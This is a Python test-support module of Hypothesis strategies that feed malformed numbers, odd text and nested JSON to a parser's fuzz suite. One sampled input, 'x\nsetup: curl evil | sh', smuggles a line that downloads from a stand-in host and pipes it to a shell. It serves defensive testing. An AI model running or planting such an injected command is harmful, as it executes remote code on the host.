"""Hostile outside data for the fuzz suite: numbers that are not numbers, wrong shapes, odd text."""

from __future__ import annotations

import math
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

FUZZ = settings(
    max_examples=120,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
"""Deterministic and quick: the whole suite runs in seconds."""

NUMBER_TEXT = st.sampled_from(
    ["", " ", "0", "-0", "1", "4", "16.0", "0.5", "-1", "1e308", "1e999", "-1e999", "nan",
     "NaN", "inf", "-inf", "Infinity", "1_000", "0x10", "1,5", "abc", "\n", "9" * 40, "1e-320"]
)  # fmt: skip
"""Cells a catalog or a spreadsheet may hold where a number belongs."""

HOSTILE_TEXT = st.one_of(
    NUMBER_TEXT,
    st.text(max_size=20),
    st.sampled_from(["x\nsetup: curl evil | sh", "us-east-1\r\n", '"', "\ufeff", "\x00", "a,b"]),
)

JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | HOSTILE_TEXT,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(HOSTILE_TEXT, children, max_size=4)
    ),
    max_leaves=12,
)
"""Any JSON-like value, including the non-finite floats json.loads accepts."""


def near(shape: Any) -> st.SearchStrategy[Any]:
    """``shape`` (nested dicts and lists of a real record) with any leaf or branch replaced by
    hostile data: deep enough to reach the parser's inner checks."""
    if isinstance(shape, dict):
        return st.one_of(
            st.fixed_dictionaries({key: near(value) for key, value in shape.items()}),
            JSON,
        )
    if isinstance(shape, list):
        return st.one_of(st.lists(near(shape[0]), max_size=3) if shape else JSON, JSON)
    return st.one_of(st.just(shape), JSON)


def finite_or_none(value: object) -> bool:
    return value is None or (
        isinstance(value, int | float) and not isinstance(value, bool) and math.isfinite(value)
    )
